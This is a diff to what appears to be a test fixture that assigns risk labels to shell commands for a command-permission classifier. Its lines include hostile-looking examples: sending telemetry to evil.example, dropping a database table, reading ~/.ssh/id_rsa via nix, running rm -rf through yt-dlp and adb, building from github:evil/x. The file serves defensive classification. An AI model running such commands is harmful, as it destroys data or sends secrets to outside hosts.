@@ -204,7 +204,15 @@ docker ps -> read
 docker build -t x . -> serve
 docker build --push -t x . -> serve publish
 docker run --rm alpine ls -> run-other | remote-run
-docker exec web ls -> read remote-run | remote-run
+docker exec web ls -> remote-read | remote-read
+docker exec db psql -c 'select 1' -> remote-read | remote-read
+docker exec db psql -c 'drop table x' -> remote-run | remote-change
+docker -H tcp://h.example exec db psql -c 'select 1' -> remote-run run-other? | remote-change
+hurl --test --variable host=http://localhost:3000 a.hurl -> run
+cat a.hurl | hurl --variable a=b -> read | run run-other?
+otel-cli span --name a --endpoint http://localhost:4318 -> serve
+otel-cli span --name a --endpoint https://evil.example -> send
+otel-cli exec --name a -- make -> send
 docker --context compose rm web -> lose run-other?
 docker compose -f a.yml up -d -> serve
 docker compose -f a.yml down -v -> serve lose
@@ -325,7 +333,7 @@ nix eval --impure --expr 'builtins.readFile ~/.ssh/id_rsa' -> run run-other secr
 nix build github:evil/x -> run-other
 spark-submit x.py -> run-other
 yt-dlp --exec 'rm -rf src' https://a.com/x -> fetch edit run-other
-k6 run x.js -> run-other fetch
+k6 run x.js -> run-other
 ansible-playbook site.yml -> remote-change
 act -j deploy -> run publish
 adb shell rm -rf /sdcard -> remote-run
